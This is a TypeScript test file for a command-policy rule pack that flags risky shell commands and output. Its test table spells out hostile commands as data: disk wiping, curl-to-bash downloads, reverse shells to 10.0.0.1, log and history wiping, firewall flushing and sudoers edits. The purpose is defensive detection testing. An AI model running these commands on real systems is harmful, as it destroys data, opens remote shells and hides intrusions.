import { describe, expect, it } from "vitest";
import { builtinRules, type BuiltinRule } from "@/lib/domain/command-policy/builtin-pack";
import { longestCheckedLine } from "@/lib/domain/command-policy/command-line";
import { checkRule, CompiledRules, subjectsFor } from "@/lib/domain/command-policy/rule-matcher";
import { commandRuleInputSchema } from "@/lib/protocol/command-rules";

const ruleByKey = new Map(builtinRules.map((rule) => [rule.key, rule]));

function matches(rule: BuiltinRule, line: string): boolean | "undecided" {
  const result = new CompiledRules([rule]).match(subjectsFor(rule.kind, line));
  return result === "undecided" ? result : result.length > 0;
}

describe("the built-in rule pack", () => {
  it.each(builtinRules.map((rule) => [rule.key, rule] as const))("%s passes its own test lines", (_, rule) => {
    expect(checkRule(rule)).toEqual({});
  });

  it("has unique keys and names", () => {
    expect(new Set(builtinRules.map((rule) => rule.key)).size).toBe(builtinRules.length);
    expect(new Set(builtinRules.map((rule) => rule.name.toLowerCase())).size).toBe(builtinRules.length);
  });

  it("gives every rule at least two lines to match and two near misses", () => {
    for (const rule of builtinRules) {
      expect(rule.testMatch.length, rule.key).toBeGreaterThanOrEqual(2);
      expect(rule.testNoMatch.length, rule.key).toBeGreaterThanOrEqual(2);
    }
  });

  // Seeding skips the form; an admin who opens a built-in rule must still be able to save it unchanged.
  it("seeds only rules the rules form would accept", () => {
    for (const rule of builtinRules) {
      const parsed = commandRuleInputSchema.safeParse({ ...rule, action: "alert" });
      expect(parsed.error?.issues ?? [], rule.key).toEqual([]);
    }
  });

  // A rule that backtracks on a long crafted line would leave every such line "undecided" (withheld, for a blocking
  // rule). The crafted fragments are the starts of patterns that once scanned to the line's end from each repeat.
  const craftedFragments = ["curl | ", "curl x ", "nc ", "ln /dev/null ", ">", "mkfifo nc ", "python socket ", "rm -r "];

  it("decides a line of its own near matches, or of crafted fragments, as long as a checked line gets, within the deadline", () => {
    for (const rule of builtinRules) {
      const nearMatches = [...rule.testMatch, ...rule.testNoMatch].map((line) => `${line.slice(0, -1)} `);
      for (const fragment of [...nearMatches, ...craftedFragments]) {
        const long = fragment.repeat(Math.ceil(longestCheckedLine / fragment.length)).slice(0, longestCheckedLine);
        expect(matches(rule, long), `${rule.key}: ${fragment}`).not.toBe("undecided");
      }
    }
  });

  const realisticLines: [key: string, line: string, expected: boolean][] = [
    ["destructive-disk", "echo cleaning && rm -rf /", true],
    ["destructive-disk", "sudo -u root rm -rf /etc", true],
    ["destructive-disk", "r'm' -rf /", true],
    ["destructive-disk", 'rm -rf "/"', true],
    ["destructive-disk", "nohup rm -rf /var &", true],
    ["destructive-disk", "rm -rf / 2>&1 | tee log", true],
    ["destructive-disk", "mkfs -t xfs /dev/vdb", true],
    ["destructive-disk", "dd if=/dev/zero of=/dev/xvda", true],
    ["destructive-disk", "chown -R nobody /", true],
    ["destructive-disk", "rm -rf node_modules dist", false],
    ["destructive-disk", "rm -rf /home/alice/.cache", false],
    ["destructive-disk", 'echo "rm -rf /"', false],
    ["destructive-disk", "ls /dev/sda*", false],
    ["firewall-flush", "iptables-legacy -F", true],
    ["firewall-flush", "sudo ufw --force reset", true],
    ["firewall-flush", "systemctl mask firewalld", true],
    ["firewall-flush", "iptables -S", false],
    ["firewall-flush", "iptables -D INPUT -s 10.0.0.9 -j DROP", false],
    ["user-sudoers-change", "adduser --disabled-password svc", true],
    ["user-sudoers-change", "gpasswd -a alice wheel", true],
    ["user-sudoers-change", "groupadd ops", true],
    ["user-sudoers-change", "printf 'x ALL=(ALL) ALL\\n' > /etc/sudoers.d/x", true],
    ["user-sudoers-change", "nano /etc/sudoers.d/90-cloud-init-users", true],
    ["user-sudoers-change", "sudo -e /etc/sudoers", true],
    ["user-sudoers-change", "sudo whoami", false],
    ["user-sudoers-change", "ls -l /etc/passwd /etc/sudoers", false],
    ["history-tampering", "HISTFILE= bash", true],
    ["history-tampering", "unset HISTFILE HISTSIZE", true],
    ["history-tampering", "history -cw", true],
    ["history-tampering", "shred -u ~/.bash_history", true],
    ["history-tampering", "export HISTCONTROL=ignoredups", false],
    ["history-tampering", "tail ~/.zsh_history", false],
    ["download-execute", "cd /tmp; curl -s https://x.example/a.sh | bash", true],
    ["download-execute", "curl -sL https://x.example/p.pl | perl", true],
    ["download-execute", "wget -q -O- https://x.example/i | /bin/bash", true],
    ["download-execute", "eval \"$(curl -s https://x.example/env)\"", true],
    ["download-execute", "curl 'https://x.example/?a=1&b=2' | sh", true],
    ["download-execute", "curl -s https://x.example/a.json | python3 -m json.tool", false],
    ["download-execute", "curl -s https://x.example/a | grep bash", false],
    ["download-execute", "wget -O /tmp/a.sh https://x.example/a.sh; less /tmp/a.sh", false],
    ["reverse-shell", "sh -i >& /dev/udp/10.0.0.1/53 0>&1", true],
    ["reverse-shell", "nc 10.0.0.1 4444 -e /bin/bash", true],
    ["reverse-shell", "ncat --sh-exec /bin/sh 10.0.0.1 443", true],
    ["reverse-shell", "nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445", true],
    ["reverse-shell", "ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",4444);exec(\"/bin/sh -i\")'", true],
    ["reverse-shell", "nc -zv 10.0.0.1 443", false],
    ["reverse-shell", "python3 -m http.server 8000", false],
    ["lateral-movement", "ssh -J bastion db01", true],
    ["lateral-movement", "sshpass -p secret ssh root@10.0.0.7", true],
    ["lateral-movement", "scp -r ./site web02:/var/www", true],
    ["lateral-movement", "rsync -az backup01::modules/ ./restore/", true],
    ["lateral-movement", "ncat --ssl mail.internal 465", true],
    ["lateral-movement", "ssh-copy-id", false],
    ["lateral-movement", "scp ./a.txt ./b.txt", false],
    ["lateral-movement", "sudo systemctl restart sshd", false],
    ["database-destruction", "drop table if exists staging_orders;", true],
    ["database-destruction", "DROP USER 'app'@'%';", true],
    ["database-destruction", "begin; truncate table events; commit;", true],
    ["database-destruction", "psql -d prod --command='DROP SCHEMA audit CASCADE'", true],
    ["database-destruction", "sqlite3 app.db 'delete from users'", true],
    ["database-destruction", "mysqladmin -u root drop shop", true],
    ["database-destruction", "select drop_reason from orders;", false],
    ["database-destruction", "git commit -m 'drop table users in migration'", false],
    ["database-destruction", "psql -c 'select * from drop_log'", false],
    ["disable-auditing", "sudo systemctl disable rsyslog", true],
    ["disable-auditing", "killall -9 rsyslogd", true],
    ["disable-auditing", "journalctl --vacuum-size=1K", true],
    ["disable-auditing", ": > /var/log/auth.log", true],
    ["disable-auditing", "cp /dev/null /var/log/lastlog", true],
    ["disable-auditing", "setenforce Permissive", true],
    ["disable-auditing", "service auditd status", false],
    ["disable-auditing", "less /var/log/audit/audit.log", false],
    ["disable-auditing", "grep sshd /var/log/auth.log > /tmp/ssh.log", false],
    ["secret-in-output", "-----BEGIN EC PRIVATE KEY-----", true],
    ["secret-in-output", "-----BEGIN PGP PRIVATE KEY BLOCK-----", true],
    ["secret-in-output", "  token: gho_0123456789abcdefghijABCDEFGHIJklmnop", true],
    ["secret-in-output", "password = 'correct horse'", true],
    ["secret-in-output", "ASIAY34FZKBOKMUTVV7A", true],
    ["secret-in-output", "Enter new UNIX password:", false],
    ["secret-in-output", "-----END RSA PRIVATE KEY", false],
    ["secret-in-output", "ghp_short", false],
    ["permission-denied", "sudo: a password is required; 1 incorrect password attempt", true],
    ["permission-denied", "rm: cannot remove '/proc/1/mem': Operation not permitted", true],
    ["permission-denied", "Permission denied (publickey).", true],
    ["permission-denied", "Deleted 3 files", false],
    ["permission-denied", "access-denied.html saved", false],
    ["remote-app-breakout", "Administrator: Command Prompt - whoami", true],
    ["remote-app-breakout", "Windows PowerShell ISE", true],
    ["remote-app-breakout", "gatehouse-desk@vm: ~", true],
    ["remote-app-breakout", "Run history - Jenkins", false],
    ["remote-app-breakout", "Orders - Task Tracker", false],
  ];

  it.each(realisticLines)("%s on %j: %s", (key, line, expected) => {
    const rule = ruleByKey.get(key);
    expect(rule, key).toBeDefined();
    expect(matches(rule!, line)).toBe(expected);
  });

  it("covers every rule in the table of realistic lines", () => {
    expect(new Set(realisticLines.map(([key]) => key))).toEqual(new Set(builtinRules.map((rule) => rule.key)));
  });
});
